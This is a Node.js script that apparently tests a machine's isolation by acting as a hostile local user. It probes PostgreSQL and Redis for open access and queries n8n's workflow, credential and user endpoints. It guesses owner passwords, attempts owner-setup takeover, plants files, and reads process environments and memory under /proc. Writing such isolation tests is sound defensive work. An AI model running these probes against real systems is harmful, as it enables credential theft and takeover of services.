// What another user of this machine tries: it reads its orders as JSON, and prints what it got hold of.
const { readdirSync, openSync, closeSync, readFileSync } = require('node:fs');
const { connect } = require('node:net');

const PATIENCE_MS = 2_000;
const PERSON = { email: 'intruder@example.com', firstName: 'In', lastName: 'Truder' };
const GUESSES = ['', 'n8n', 'postgres', 'Load-test-1'];

/** What a port replies to these bytes, until it closes or says nothing more. */
const replyOf = (port, bytes) =>
  new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const parts = [];
    const end = () => {
      socket.destroy();
      resolve(Buffer.concat(parts));
    };
    socket.setTimeout(500, end);
    socket.on('data', (part) => parts.push(part));
    socket.on('error', end);
    socket.on('close', end);
    socket.write(bytes);
  });

/** PostgreSQL's first message of protocol 3.0; it replies `R` and how to prove who one is: 0 is not at all. */
async function postgresql(port, user) {
  const words = Buffer.from(`user\0${user}\0database\0n8n\0\0`);
  const head = Buffer.alloc(8);
  head.writeInt32BE(words.length + 8, 0);
  head.writeInt32BE(0x30000, 4);
  const reply = await replyOf(port, Buffer.concat([head, words]));
  const isIn = reply.length >= 9 && reply[0] === 0x52 && reply.readInt32BE(5) === 0;
  return isIn ? [`PostgreSQL at ${port} as ${user}`] : [];
}

async function redis(port) {
  const reply = (await replyOf(port, 'PING\r\nKEYS *\r\n')).toString();
  return reply.startsWith('+PONG') ? [`Redis at ${port}`] : [];
}

async function http(port, method, path, body) {
  try {
    const reply = await fetch(`http://127.0.0.1:${port}${path}`, {
      ...{ method, signal: AbortSignal.timeout(PATIENCE_MS) },
      ...(body === undefined
        ? {}
        : { body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }),
    });
    const text = await reply.text();
    // The editor's own page is no secret; it is what n8n gives for a path that it does not know.
    const isData = reply.ok && !text.startsWith('<!DOCTYPE');
    return isData ? [`n8n at ${port}: ${method} ${path}`] : [];
  } catch {
    return [];
  }
}

const n8n = async (port) => [
  ...(await http(port, 'GET', '/rest/workflows')),
  ...(await http(port, 'GET', '/rest/credentials')),
  ...(await http(port, 'GET', '/rest/users')),
  ...(await Promise.all(
    GUESSES.map((password) =>
      http(port, 'POST', '/rest/login', {
        ...{ email: 'owner@example.com', emailOrLdapLoginId: 'owner@example.com', password },
      }),
    ),
  ).then((all) => all.flat())),
  ...(await http(port, 'POST', '/rest/owner/skip-setup', {})),
  ...(await http(port, 'POST', '/rest/owner/setup', { ...PERSON, password: 'N8n-intruder-1' })),
];

function file(path, flags) {
  try {
    closeSync(openSync(path, flags));
    return [`${path}, opened with ${flags}`];
  } catch {
    return [];
  }
}

function listing(path) {
  try {
    readdirSync(path);
    return [`${path}, listed`];
  } catch {
    return [];
  }
}

async function run() {
  const { ports, files, folders, pids } = JSON.parse(readFileSync(0, 'utf8'));
  const got = [];
  for (const port of ports) {
    for (const user of ['n8n', 'postgres']) got.push(...(await postgresql(port, user)));
    got.push(...(await redis(port)), ...(await n8n(port)));
  }
  for (const path of files) got.push(...file(path, 'r'), ...file(path, 'r+'));
  for (const path of folders) got.push(...listing(path), ...file(`${path}/planted`, 'wx'));
  for (const pid of pids) {
    got.push(...['environ', 'mem'].flatMap((name) => file(`/proc/${pid}/${name}`, 'r')));
    got.push(
      ...['fd', 'cwd/', 'root/tmp/../proc/self/fd'].flatMap((name) =>
        name === 'fd' || name === 'cwd/' ? listing(`/proc/${pid}/${name}`) : [],
      ),
    );
  }
  process.stdout.write(JSON.stringify({ uid: process.getuid(), got }));
}

void run();
